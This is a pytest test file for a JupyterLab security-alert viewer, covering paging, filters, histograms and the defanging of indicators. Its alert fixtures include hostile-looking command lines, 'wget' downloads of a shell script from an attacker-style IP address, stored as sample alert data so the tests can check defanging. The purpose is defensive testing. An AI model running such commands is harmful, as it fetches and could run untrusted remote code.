from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from jupyterlab_sentinel.models.refang import refang

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.server.conftest import Server

RANGE = "2026-06-01 2026-06-02"
ADDRESS = "203.0.113.7"


def alert(number: int, **fields: object) -> dict[str, object]:
    minute = f"2026-06-01T{number // 60 % 24:02}:{number % 60:02}"
    return {
        "TimeGenerated": f"{minute}:30Z",
        "StartTime": f"{minute}:00Z",
        "EndTime": f"{minute}:20Z",
        "SystemAlertId": f"id-{number}",
        "AlertName": f"Alert {number}",
        "DisplayName": f"Alert {number}",
        "AlertSeverity": ("High", "Medium", "Low", "Informational")[number % 4],
        "Status": "New",
        "Description": f"something {number}",
        "CompromisedEntity": "HOST1",
        "Tactics": "Execution",
        "ExtendedProperties": json.dumps({"Number": number}),
        "Entities": json.dumps([{"$id": "1", "Type": "ip", "Address": ADDRESS if number == 5 else "198.51.100.1"}]),
        "Type": "SecurityAlert",
        **fields,
    }


@pytest.fixture
def small(write_logs: Callable[..., Path], server: Server) -> str:
    """Ten alerts, connected."""
    write_logs(SecurityAlert=[alert(number) for number in range(10)])
    answer = server.post("connect", name="logs")
    assert answer.status == 200, answer.json
    return str(answer.json["address"])


def ids(answer: Any) -> list[str]:
    return [row["id"] for row in answer.json["alerts"]]


def test_a_folder_connects_by_its_place_in_the_file_browser(server: Server, small: str, jp_root_dir: Path) -> None:
    again = server.post("connect", name=str(jp_root_dir / "logs")).json
    assert again["address"] == small
    assert again["tables"] == 1
    assert again["dataStart"] == "2026-06-01T00:00:30Z"


def test_pages_are_newest_first_and_none_is_lost_or_doubled(server: Server, small: str) -> None:
    pages = [server.get("alerts", workspace=small, spec=RANGE, offset=offset, limit=4) for offset in (0, 4, 8, 12)]
    assert [len(ids(page)) for page in pages] == [4, 4, 2, 0]
    assert [name for page in pages for name in ids(page)] == [f"id-{number}" for number in reversed(range(10))]
    assert {page.json["total"] for page in pages} == {10}
    assert pages[0].json["counts"] == {"High": 3, "Medium": 3, "Low": 2, "Informational": 2, "Unknown": 0}
    assert pages[0].json["timeRange"]["start"] == "2026-06-01T00:00:00Z"
    assert pages[0].json["reasons"] == []
    assert pages[0].json["status"] == "complete"


def test_severities_filter_the_rows_and_not_the_counts(server: Server, small: str) -> None:
    answer = server.get("alerts", workspace=small, spec=RANGE, severity="High,Low")
    assert answer.json["total"] == 5
    assert {row["severity"] for row in answer.json["alerts"]} == {"High", "Low"}
    assert answer.json["counts"]["Medium"] == 3


@pytest.mark.parametrize("text", [ADDRESS, "203[.]0[.]113[.]7", " 203.0.113.7 ", "hxxp://203.0.113.7"[7:]])
def test_an_address_in_an_entity_is_found_defanged_or_not(server: Server, small: str, text: str) -> None:
    answer = server.get("alerts", workspace=small, spec=RANGE, contains=text)
    assert ids(answer) == ["id-5"]
    assert answer.json["counts"] == {"High": 0, "Medium": 1, "Low": 0, "Informational": 0, "Unknown": 0}


def test_text_is_found_in_any_case(server: Server, small: str) -> None:
    assert ids(server.get("alerts", workspace=small, spec=RANGE, contains="SOMETHING 7")) == ["id-7"]
    assert ids(server.get("alerts", workspace=small, spec=RANGE, contains="nowhere")) == []


@pytest.mark.parametrize(
    ("parameters", "code"),
    [
        ({"limit": 0}, "usage"),
        ({"limit": 501}, "usage"),
        ({"offset": -1}, "usage"),
        ({"limit": "many"}, "bad_request"),
        ({"severity": "Huge"}, "usage"),
        ({"severity": "\u202eHigh"}, "usage"),
        ({"spec": "2026-06-02 2026-06-01"}, "time_range"),
        ({"contains": "x" * 9000}, "bad_request"),
    ],
)
def test_bad_parameters_are_one_message(server: Server, small: str, parameters: dict[str, object], code: str) -> None:
    answer = server.get("alerts", **{"workspace": small, "spec": RANGE, **parameters})
    assert (answer.status, answer.json["code"]) == (400, code)
    assert "\u202e" not in answer.json["message"]


def test_without_a_workspace_there_is_an_answer_too(server: Server, write_logs: Callable[..., Path]) -> None:
    write_logs(SecurityAlert=[alert(1)])
    closed = server.get("alerts", workspace="logs", spec=RANGE)
    assert (closed.status, closed.json["code"]) == (409, "not_connected")
    nowhere = server.get("alerts", workspace="nowhere", spec=RANGE)
    assert (nowhere.status, nowhere.json["code"]) == (404, "unknown_workspace")
    missing = server.get("alerts", spec=RANGE)
    assert (missing.status, missing.json["code"]) == (400, "bad_request")
    assert server.post("connect", name="nowhere").status == 404
    share = server.post("connect", name="//host/share")
    assert (share.status, share.json["code"]) == (400, "data")


def test_a_folder_that_cannot_be_read_is_told_in_the_users_words(server: Server, jp_root_dir: Path) -> None:
    (jp_root_dir / "empty").mkdir()
    answer = server.post("connect", name="empty")
    assert answer.status in (400, 404)
    assert answer.json["message"]
    assert str(jp_root_dir) not in answer.json["message"] + answer.json["hint"]


def test_new_files_are_seen_after_reopening_and_new_rows_of_the_cache_after_fresh(
    server: Server, small: str, write_logs: Callable[..., Path]
) -> None:
    assert server.get("alerts", workspace=small, spec=RANGE).json["total"] == 10
    write_logs(SecurityAlert=[alert(number) for number in range(12)])
    assert server.get("alerts", workspace=small, spec=RANGE).json["total"] == 10
    assert server.post("connect", name="logs", reopen=True).status == 200
    assert server.get("alerts", workspace=small, spec=RANGE).json["total"] == 12


def test_a_workspace_without_alerts_has_none(server: Server, write_logs: Callable[..., Path]) -> None:
    write_logs(Syslog=[{"TimeGenerated": "2026-06-01T00:00:00Z", "SyslogMessage": "hello"}])
    address = server.post("connect", name="logs").json["address"]
    answer = server.get("alerts", workspace=address, spec="all")
    assert answer.status == 200
    assert answer.json["total"] == 0
    assert answer.json["status"] == "complete"
    assert "SecurityAlert" in answer.json["notes"][0]
    assert server.get("histogram", workspace=address, spec="all").json["buckets"] == []


def test_only_the_last_update_of_an_alert_is_listed_and_counted(
    server: Server, write_logs: Callable[..., Path]
) -> None:
    write_logs(
        SecurityAlert=[
            alert(1),
            alert(600, SystemAlertId="id-1", AlertName="Alert 1", Status="Resolved", AlertSeverity="Low"),
            alert(2, SystemAlertId=""),
            alert(3, SystemAlertId=""),
        ]
    )
    address = server.post("connect", name="logs").json["address"]
    answer = server.get("alerts", workspace=address, spec=RANGE).json
    newest = answer["alerts"][0]
    assert (newest["status"], newest["severity"]) == ("Resolved", "Low")
    assert answer["total"] == 3
    assert len({row["id"] for row in answer["alerts"]}) == 3
    buckets = server.get("histogram", workspace=address, spec=RANGE).json["buckets"]
    assert sum(sum(bucket["counts"].values()) for bucket in buckets) == 3
    assert sum(bucket["counts"].get("Medium", 0) for bucket in buckets) == 0


def test_the_bars_cover_the_data_without_gaps(server: Server, small: str) -> None:
    answer = server.get("histogram", workspace=small, spec=RANGE).json
    buckets = answer["buckets"]
    assert [bucket["end"] for bucket in buckets[:-1]] == [bucket["start"] for bucket in buckets[1:]]
    assert (buckets[0]["start"], buckets[-1]["end"]) == (answer["start"], answer["end"])
    assert [sum(bucket["counts"].values()) for bucket in buckets] == [1] * 10
    assert answer["start"] == "2026-06-01T00:00:00Z"


def test_an_alert_is_told_whole(server: Server, write_logs: Callable[..., Path]) -> None:
    entities = [
        {"$id": "1", "Type": "host", "HostName": "HOST1", "OSFamily": "Linux"},
        {"$id": "2", "Type": "account", "Name": "dbadmin", "Host": {"$ref": "1"}},
        {
            "$id": "3",
            "Type": "process",
            "ProcessId": "24901",
            "CommandLine": "wget http://203.0.113.7/a.sh\u202e",
            "Account": {"$ref": "2"},
        },
    ]
    write_logs(SecurityAlert=[alert(7, Entities=json.dumps(entities))])
    address = server.post("connect", name="logs").json["address"]
    answer = server.get("alert", workspace=address, spec=RANGE, id="id-7")
    assert answer.status == 200, answer.json
    detail = answer.json
    assert [(card["kind"], card["aside"]) for card in detail["entities"]] == [
        ("Host", "Linux"),
        ("Account", "on HOST1"),
        ("Process", "pid 24901"),
    ]
    title = detail["entities"][2]["title"]
    assert title["text"] == "wget hxxp[:]//203[.]0[.]113[.]7/a.sh<U+202E>"
    assert [title["text"][mark["start"] : mark["end"]] for mark in title["marks"]] == ["203[.]0[.]113[.]7"]
    facts = {fact["label"]: fact["value"]["text"] for fact in detail["facts"]}
    assert facts["When"] == "2026-06-01 00:07:00 UTC, 20 s"
    assert facts["Host"] == "HOST1, Linux"
    assert facts["Account"] == "dbadmin"
    found = {row["raw"]: row for row in detail["indicators"]}
    assert found["203.0.113.7"]["where"] == ["Process.CommandLine"]
    assert found["203.0.113.7"]["defanged"] == "203[.]0[.]113[.]7"
    assert {"label": "Number", "value": {"text": "7", "marks": [], "truncated": False}} in detail["properties"]
    assert "203[.]0[.]113[.]7" in detail["defangedText"]
    assert "203.0.113.7" not in detail["defangedText"]
    assert detail["pivots"][0]["cells"]
    assert "://" not in detail["defangedText"]


def test_an_alert_that_is_not_in_the_range_is_said(server: Server, small: str) -> None:
    answer = server.get("alert", workspace=small, spec=RANGE, id="id-\u202e99")
    assert (answer.status, answer.json["code"]) == (404, "unknown_alert")
    assert "<U+202E>" in answer.json["message"]


class TestDemo:
    """The facts of the demo's story, through the server."""

    ATTACKER = "23.97.60.214"

    @pytest.fixture
    def workspace(self, server: Server) -> dict[str, Any]:
        answer = server.post("connect", name="demo")
        assert answer.status == 200, answer.json
        return dict(answer.json)

    def test_it_opens_on_its_own_range_with_nineteen_alerts(self, server: Server, workspace: dict[str, Any]) -> None:
        assert workspace["timeRange"] == "2019-02-17 2019-02-19"
        assert workspace["synthetic"] is True
        answer = server.get("alerts", workspace="demo").json
        assert answer["total"] == 19
        assert answer["timeRange"]["spec"] == workspace["timeRange"]
        assert sorted(row["title"] for row in answer["alerts"]) == [
            "Detected suspicious file download",
            *["SSH Anomalous Login ML"] * 18,
        ]
        assert all(row["subtitle"].startswith("MSTICALERTSLXVM2") for row in answer["alerts"])

    def test_fourteen_of_them_contain_the_attackers_address(self, server: Server, workspace: dict[str, Any]) -> None:
        answer = server.get("alerts", workspace="demo", contains=self.ATTACKER).json
        assert answer["total"] == 14

    def test_the_download_alert_has_the_address_in_its_command_line_only(
        self, server: Server, workspace: dict[str, Any]
    ) -> None:
        rows = server.get("alerts", workspace="demo", contains="suspicious file download").json["alerts"]
        assert len(rows) == 1
        detail = server.get("alert", workspace="demo", id=rows[0]["id"]).json
        assert detail["row"]["start"] == "2019-02-18T15:29:22Z"
        where = {row["raw"]: row["where"] for row in detail["indicators"]}[self.ATTACKER]
        assert where
        assert all(place.startswith("Process.") for place in where), where
        processes = [card for card in detail["entities"] if card["kind"] == "Process"]
        marked = [
            refang(card["title"]["text"][mark["start"] : mark["end"]])
            for card in processes
            for mark in card["title"]["marks"]
        ]
        assert self.ATTACKER in marked
        addresses = [refang(card["title"]["text"]) for card in detail["entities"] if card["kind"] == "IP"]
        assert self.ATTACKER not in addresses
        assert any(
            card["title"]["text"].startswith("wget hxxp[:]//23[.]97[.]60[.]214/") and card["aside"].startswith("pid ")
            for card in processes
        )

    def test_the_bars_show_the_alerts_of_the_range(self, server: Server, workspace: dict[str, Any]) -> None:
        answer = server.get("histogram", workspace="demo").json
        inside = [
            sum(bucket["counts"].values())
            for bucket in answer["buckets"]
            if "2019-02-17T00:00:00Z" <= bucket["start"] < "2019-02-19T00:00:00Z"
        ]
        assert sum(inside) == 19
        assert answer["start"] <= workspace["dataStart"]
        assert answer["end"] >= workspace["dataEnd"]


def test_ten_thousand_alerts_are_read_once_and_paged_from_what_is_kept(
    server: Server, write_logs: Callable[..., Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from jupyterlab_sentinel.services import listings

    reads = 0
    read = listings.read_listing

    async def counted(*arguments: Any) -> Any:
        nonlocal reads
        reads += 1
        return await read(*arguments)

    monkeypatch.setattr(listings, "read_listing", counted)
    write_logs(SecurityAlert=[alert(number, TimeGenerated="2026-06-01T12:00:00Z") for number in range(10_000)])
    address = server.post("connect", name="logs").json["address"]
    seen: set[str] = set()
    for offset in range(0, 10_000, 500):
        page = server.get("alerts", workspace=address, spec=RANGE, offset=offset, limit=500)
        seen.update(ids(page))
    assert len(seen) == 10_000
    assert server.get("alerts", workspace=address, spec=RANGE, contains="something 9999").json["total"] == 1
    assert reads == 1
    server.get("alerts", workspace=address, spec=RANGE, fresh=1)
    assert reads == 2
